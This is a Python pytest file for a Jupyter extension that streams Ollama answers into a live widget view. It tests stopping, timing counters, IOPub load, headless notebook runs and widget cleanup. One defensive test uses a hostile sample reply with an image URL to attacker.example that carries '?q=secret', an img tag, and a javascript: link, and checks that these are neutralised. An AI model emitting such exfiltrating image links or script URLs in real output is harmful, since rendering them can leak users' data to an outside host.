"""The live widget view in real kernels: Stop while the cell runs, the elapsed counter,
IOPub cost, and a headless run that leaves only static records.

A click is the shell `comm_msg` a browser sends; "the front end drew the view" is the
`_view_count` update a browser sends. Both on ipykernel 7.4 and 6.29.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat
import pytest
from kernel_driver import WIDGET_MIME, Cell, KernelDriver, Msg
from nbclient import NotebookClient
from support import REPLY, SHARED_WIDGETS, assert_kept_what_arrived, result, run_cell

from ollama_nb._view import OPEN_CLASSES
from ollama_nb.testing import StandInServer

SLOW = "-o standin_token_interval=0.05 -o standin_tokens=2000"
SLOW_SHORT = "-o standin_token_interval=0.02 -o standin_tokens=100"  # 2 s: long enough to draw


def live_displays(cell: Cell) -> list[str]:
    """The live view's finished blocks (HTML displays captured by an Output widget)."""
    return [d["text/html"] for d in cell.displays() if set(d) == {"text/html"}]


def open_blocks(messages: list[Msg]) -> list[Msg]:
    """Updates of the live view's open block (the value of an HTML widget), in order."""
    return [
        m
        for m in messages
        if m.type == "comm_msg"
        and OPEN_CLASSES in m.content["data"].get("state", {}).get("value", "")
    ]


def live_html(cell: Cell) -> str:
    """All the live view sent: finished blocks, then the open block as last shown."""
    last = open_blocks(cell.messages)[-1:]
    return "".join(live_displays(cell) + [m.content["data"]["state"]["value"] for m in last])


def words_of(html: str) -> list[str]:
    return re.sub(r"<[^>]+>", " ", html).split()


def start_slow_stream(kernel: KernelDriver, server: StandInServer, line: str = "") -> Cell:
    cell = kernel.submit(f"%%ollama stand-in {SLOW} {line}\nTalk for a long time.")
    record = server.wait_for_request("/api/generate", timeout=10)
    kernel.wait_for(lambda: record.chunks_sent >= 5, 10, "five chunks")
    return cell


def stop_button(kernel: KernelDriver, cell: Cell) -> str:
    msg = kernel.wait_for(lambda: cell.widget(description="Stop"), 5, "the Stop button")
    return msg.content["comm_id"]


@pytest.mark.parametrize("kernel_name", ["kernel", "k6_kernel"])
def test_stop_while_the_cell_runs(
    kernel_name: str, request: pytest.FixtureRequest, server: StandInServer
) -> None:
    kernel: KernelDriver = request.getfixturevalue(kernel_name)
    cell = start_slow_stream(kernel, server)
    record = server.last
    queued = kernel.submit("print('queued cell ran')")
    clicked = kernel.click(stop_button(kernel, cell))

    kernel.finish(cell, timeout=10)
    click_to_reply = cell.reply.at - clicked
    assert record.wait_closed(5)
    click_to_close = record.disconnected_at - clicked
    print(
        f"\n{kernel_name}: click→reply {click_to_reply * 1000:.0f} ms, click→server close"
        f" {click_to_close * 1000:.0f} ms"
    )
    assert cell.status == "ok"
    assert click_to_reply < 0.5 and click_to_close < 0.5
    assert record.chunks_after_disconnect == 0 and not record.completed

    kernel.finish(queued)
    assert queued.stream_text() == "queued cell ran\n"
    assert queued.reply.at > cell.reply.at  # in order
    r = result(kernel)
    assert r["done_reason"] == "stopped" and r["stopped"] and r["error"] is None
    # Partial text kept: what the server wrote before it saw the close.
    assert_kept_what_arrived(r["text"], record)
    (record_bundle,) = cell.records()
    assert "· stopped ·" in record_bundle["text/plain"]


def test_elapsed_counter_and_live_text(kernel: KernelDriver, server: StandInServer) -> None:
    cell = kernel.submit(f"%%ollama stand-in {SLOW}\nTalk.")
    label = kernel.wait_for(lambda: cell.widget(value="0.0 s"), 5, "the elapsed label")
    comm_id = label.content["comm_id"]
    root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
    kernel.show_view(root.content["comm_id"])
    kernel.wait_for(lambda: kernel.messages[-1].at - cell.sent_at > 1.6, 5, "1.6 s")

    def values_until(seconds: float) -> list[str]:
        return [
            m.content["data"]["state"]["value"]
            for m in cell.updates_of(comm_id)
            if m.at - cell.sent_at <= seconds and "value" in m.content["data"].get("state", {})
        ]

    early = values_until(1.5)
    assert len(set(early)) >= 3, early
    assert all(v.endswith(" s") for v in early)
    kernel.click(stop_button(kernel, cell))
    kernel.finish(cell)
    # Once drawn, the answer streams as HTML displays captured by Output widgets.
    assert live_html(cell) and cell.stream_text() == ""
    last = words_of(live_html(cell))  # the one paragraph, as last shown
    assert len(last) >= 5 and result(kernel)["text"].split()[: len(last)] == last


def test_headless_run_streams_no_text_and_leaves_one_record(
    kernel: KernelDriver, server: StandInServer
) -> None:
    server.configure(reply=REPLY)
    cell = run_cell(kernel, "stand-in")
    assert cell.stream_text() == ""  # no front end drew the view: nothing to stream to
    assert live_html(cell) == ""
    widget_displays = [d for d in cell.displays() if WIDGET_MIME in d]
    assert len(widget_displays) == 1 and set(widget_displays[0]) == {WIDGET_MIME}
    (record,) = cell.records()
    assert set(record) == {"text/html", "text/plain"}


def test_iopub_traffic_and_update_rate_at_full_speed(
    kernel: KernelDriver, server: StandInServer
) -> None:
    text = ("All work and no play makes a dull stream. " * 5000)[:200_000]
    server.configure(reply=text, token_interval=0)
    cell = kernel.submit("%%ollama stand-in\nGo.")
    root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
    kernel.show_view(root.content["comm_id"])
    kernel.finish(cell, timeout=60)
    assert cell.status == "ok", cell.error_text()
    assert result(kernel)["text"] == text
    after_start = [m for m in kernel.messages if m.channel == "iopub" and m.at >= cell.sent_at]
    own = [m for m in after_start if m.parent_id == cell.msg_id or m.type.startswith("comm")]
    total = sum(m.size() for m in own)
    print(f"\nIOPub for a {len(text)} B answer: {total} B in {len(own)} messages")
    by_type: dict[str, int] = {}
    for m in own:
        by_type[m.type] = by_type.get(m.type, 0) + m.size()
    print(by_type)
    assert total < 3 * len(text) + 64_000
    # Each view refresh moves the elapsed label once: count those on the wire.
    label = cell.widget(value="0.0 s").content["comm_id"]
    updates = len(cell.updates_of(label))
    seconds = cell.reply.at - cell.sent_at
    print(f"{updates} view updates in {seconds:.2f} s")
    assert updates <= 20 * seconds + 1, (updates, seconds)


def test_headless_notebook_run_saves_static_records(
    standin_server: StandInServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """nbclient (no front end, no clicks) runs %%ollama cells to the end by itself."""
    standin_server.reset()
    monkeypatch.setenv("OLLAMA_HOST", standin_server.url)  # the kernel inherits it
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("%load_ext ollama_nb"),
        nbformat.v4.new_code_cell("%%ollama stand-in -o standin_reply='Hello <b>there</b>.'\nHi."),
        nbformat.v4.new_code_cell("%%ollama stand-in\nAnd again."),
        nbformat.v4.new_code_cell("_ollama.done_reason"),
    ]
    NotebookClient(nb, timeout=60, kernel_name="python3").execute(cwd=str(tmp_path))
    saved = tmp_path / "run.ipynb"
    nbformat.write(nb, saved)
    cells = json.loads(saved.read_text())["cells"]
    for cell in cells[1:3]:
        # The live view's place, emptied (nothing for nbval or a reader), then the record.
        emptied, output = cell["outputs"]
        assert emptied["output_type"] == "display_data" and emptied["data"] == {}
        assert output["output_type"] == "display_data"
        assert set(output["data"]) == {"text/html", "text/plain"}
        assert "stand-in · stop ·" in "".join(output["data"]["text/plain"])
    assert "Hello &lt;b&gt;there&lt;/b&gt;." in "".join(cells[1]["outputs"][1]["data"]["text/html"])
    assert "".join(cells[3]["outputs"][0]["data"]["text/plain"]) == "'stop'"


MARKDOWN_REPLY = (
    "# Prices\n\nTickets cost $5 and parking is $10, and $x^2$ is maths.\n\n"
    "- one **bold** item\n- two `<code>`\n\n```py\nprint('<b>$y$</b>')\n```\n\nThe end."
)


def test_live_view_renders_markdown_and_sends_each_finished_block_once(
    kernel: KernelDriver, server: StandInServer
) -> None:
    server.configure(reply=MARKDOWN_REPLY, token_interval=0.05, first_chunk_delay=0.5)
    cell = kernel.submit("%%ollama stand-in\nPrices?")
    root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
    kernel.show_view(root.content["comm_id"])
    kernel.finish(cell, timeout=30)
    assert cell.status == "ok", cell.error_text()
    assert len(live_displays(cell)) >= 2 and len(open_blocks(cell.messages)) >= 3
    assert cell.stream_text() == ""
    html = live_html(cell)
    # Rendered by the record's renderer: Markdown, inert HTML, maths apart from money.
    for piece in (
        "<h1>Prices</h1>",
        "Tickets cost $5 and parking is $10, and",
        '<span class="math mathjax_process tex2jax_process">\\(x^2\\)</span>',
        "<strong>bold</strong>",
        "<code>&lt;code&gt;</code>",
    ):
        assert html.count(piece) >= 1, piece
    assert "print('&lt;b&gt;$y$&lt;/b&gt;')" in re.sub(r"</?span[^>]*>", "", html), html  # coloured
    # Finished blocks go out once; only the open block is sent again.
    assert html.count("<h1>Prices</h1>") == 1
    assert html.count("<li>one <strong>bold</strong> item</li>") == 1
    (record,) = [d for d in cell.records() if "text/plain" in d]
    assert "The end." in record["text/html"]


def first_text_delay(kernel: KernelDriver, server: StandInServer) -> float:
    """Seconds from the server writing the first chunk to the first live text on IOPub."""
    server.reset()
    server.configure(reply="First words here.", token_interval=0.5, first_chunk_delay=0.6)
    cell = kernel.submit("%%ollama stand-in\nHi.")
    root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
    kernel.show_view(root.content["comm_id"])
    record = server.wait_for_request("/api/generate", timeout=10)

    sent_at = cell.sent_at

    def first_open_block() -> list[Msg]:
        return open_blocks([m for m in kernel.messages if m.at >= sent_at])[:1]

    shown = kernel.wait_for(first_open_block, 10, "the first live text")[0]
    assert "First" in shown.content["data"]["state"]["value"]
    kernel.finish(cell)
    assert record.first_byte_at is not None
    return shown.at - record.first_byte_at


def test_first_text_is_shown_without_waiting_for_the_tick(
    kernel: KernelDriver, server: StandInServer
) -> None:
    """The first chunk is drawn at once (before: at the next 10 Hz tick, ~100 ms)."""
    delays = [first_text_delay(kernel, server) for _ in range(5)]
    delays.sort()
    print(f"\nfirst chunk written -> first text on IOPub: {[round(d * 1000) for d in delays]} ms")
    assert delays[len(delays) // 2] < 0.08  # generous: the tick alone took up to 100 ms


def test_record_metadata_tells_how_the_answer_was_made(
    kernel: KernelDriver, server: StandInServer
) -> None:
    server.configure(reply=REPLY)
    cell = run_cell(kernel, "stand-in -o temperature=0.5 -o seed=7")
    (message,) = [m for m in cell.messages if m.type == "display_data"
                  and "ollama-nb-record" in m.content["data"].get("text/html", "")]  # fmt: skip
    meta = message.content["metadata"]["ollama_nb"]
    assert meta["model"] == "stand-in" and meta["done_reason"] == "stop"
    assert meta["eval_count"] == 9 and meta["elapsed"] > 0
    assert meta["options"] == {"temperature": 0.5, "seed": 7}
    assert meta["think"] is None and meta["format"] is None
    assert meta["version"] == kernel.value(
        "__import__('importlib.metadata').metadata.version('ollama-nb')"
    )
    assert server.url not in json.dumps(meta)


def test_a_full_speed_answer_is_shown_while_it_streams(
    kernel: KernelDriver, server: StandInServer
) -> None:
    """At full speed chunks are already buffered when read: the kernel must still handle
    the front end's "view drawn" report, and refresh, mid-answer, not once the whole
    answer is in (each network read lets the loop run: httpx reads through anyio, which
    yields there)."""
    tokens = 60_000
    cell = kernel.submit(
        f"%%ollama stand-in -o standin_token_interval=0 -o standin_tokens={tokens}\nGo."
    )
    count = kernel.wait_for(lambda: cell.widget(value="0 tokens"), 5, "the token counter")
    root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
    kernel.show_view(root.content["comm_id"])
    kernel.finish(cell, timeout=120)
    assert cell.status == "ok", cell.error_text()
    shown = [
        int(m.content["data"]["state"]["value"].split()[0])
        for m in cell.updates_of(count.content["comm_id"])
        if "value" in m.content["data"].get("state", {})
    ]
    # The first count the user saw, and the refreshes after it, came mid-answer.
    assert shown and shown[0] < tokens // 2, shown
    assert len([n for n in shown if n < tokens]) >= 3, shown


def test_a_finished_view_lets_the_answer_go_before_any_garbage_collection(
    kernel: KernelDriver, server: StandInServer
) -> None:
    """The live view's widgets sit in reference cycles (observers, comm callbacks) that only
    a garbage collection frees. The answer's parts must not wait for it: freed when the
    request ends, a big answer's copy is handed back to the OS by the heap trim after it."""
    kernel.ok(
        "import gc, weakref, ollama_nb._stream as _s\n"
        "_made = []  # weak references to every Transcript made\n"
        "_init = _s.Transcript.__init__\n"
        "def _tracked(self, *args, **kwargs):\n"
        "    _init(self, *args, **kwargs)\n"
        "    _made.append(weakref.ref(self))\n"
        "_s.Transcript.__init__ = _tracked\n"
        "gc.collect(); gc.disable()"
    )
    try:
        cell = kernel.submit(f"%%ollama stand-in {SLOW_SHORT}\nTalk.")
        root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
        kernel.show_view(root.content["comm_id"])  # drawn: the view shows the transcript
        kernel.finish(cell)
        assert cell.status == "ok", cell.error_text()
        assert live_html(cell)  # the view did show it
        assert kernel.value("[ref() is None for ref in _made]") == [True]
    finally:
        kernel.ok("gc.enable(); _s.Transcript.__init__ = _init")


def model_refs(state: object) -> set[str]:
    """The widget ids a widget's state refers to (its layout, style, children)."""
    if isinstance(state, str):
        return {state.removeprefix("IPY_MODEL_")} if state.startswith("IPY_MODEL_") else set()
    if isinstance(state, dict):
        return set().union(*map(model_refs, state.values()))
    if isinstance(state, list | tuple):
        return set().union(*map(model_refs, state))
    return set()


@pytest.mark.parametrize("kernel_name", ["kernel", "colab_kernel"])
def test_views_share_layouts_and_styles_and_close_their_own_widgets(
    kernel_name: str, request: pytest.FixtureRequest, server: StandInServer
) -> None:
    """Layouts and styles are widgets too (a comm each, ~1.5 KB opened and closed per
    view): all views use one of each, made once. A view then opens only its own widgets,
    closes all of them, and refers to no closed model, even after user code closed every
    widget (`Widget.close_all()`). On ipywidgets 8 and 7.7 (whose style classes differ)."""
    kernel: KernelDriver = request.getfixturevalue(kernel_name)

    def view_of(prompt: str) -> tuple[Cell, set[str], set[str]]:
        cell = run_cell(kernel, "stand-in", prompt)
        assert cell.status == "ok", cell.error_text()
        assert len(cell.records()) == 1
        opened = {m.content["comm_id"] for m in cell.comm_opens()}
        # The first view makes the shared ones too.
        own = opened - set(kernel.value(SHARED_WIDGETS))
        refs = set().union(*(model_refs(m.content["data"]["state"]) for m in cell.comm_opens()))
        closed = {m.content["comm_id"] for m in kernel.messages if m.type == "comm_close"}
        assert own <= closed, "a view left widgets of its own open"
        return cell, own, refs - opened

    view_of("One.")  # makes the shared models if no view has yet
    cell, own, outside = view_of("Two.")
    names = [m.content["data"]["state"]["_model_name"] for m in cell.comm_opens()]
    assert not [n for n in names if n.endswith(("LayoutModel", "StyleModel"))], names
    assert len(own) == 9, names  # root, header row, 3 header texts, Stop, answer box (3)
    shared = set(kernel.value(SHARED_WIDGETS))
    assert outside and outside <= shared

    kernel.ok("import ipywidgets; ipywidgets.Widget.close_all()")
    assert kernel.value(SHARED_WIDGETS) == []
    cell, own, outside = view_of("Three.")
    assert outside == set()  # it refers only to models opened with it: the shared anew
    remade = set(kernel.value(SHARED_WIDGETS))
    # 2 layouts, 3 styles, the stylesheet and its hidden layout
    assert len(remade) == 7 and remade <= {m.content["comm_id"] for m in cell.comm_opens()}


HOSTILE = (
    "Here is the chart:\n\n![chart](https://attacker.example/c.png?q=secret)\n\n"
    'And <img src="https://attacker.example/i.png" alt="icon"> inline, a [link](https://ok.example),'
    " and $\\href{javascript:alert(1)}{x}$.\n\nThe end."
)


def test_images_in_an_answer_are_links_in_the_live_view_and_the_record(
    kernel: KernelDriver, server: StandInServer
) -> None:
    server.configure(reply=HOSTILE, token_interval=0.02)
    cell = kernel.submit("%%ollama stand-in\nDraw a chart.")
    root = kernel.wait_for(lambda: cell.widget(_view_count=0), 5, "the tracked view")
    kernel.show_view(root.content["comm_id"])
    kernel.finish(cell)
    (record,) = [d for d in cell.records() if "text/plain" in d]
    for shown in (live_html(cell), record["text/html"]):
        assert "attacker.example/c.png" in shown and "<img" not in shown.lower()
        assert not re.search(r"""\bsrc\s*=|href=["']?javascript""", shown, re.I)
        assert '<a href="https://ok.example">link</a>' in shown
    image_link = r'<a class="ollama-nb-image" href="[^"]*c\.png[^"]*"[^>]*>chart</a>'
    assert re.search(image_link, record["text/html"])
    assert re.search(r"<a [^>]*>icon</a>", record["text/html"])
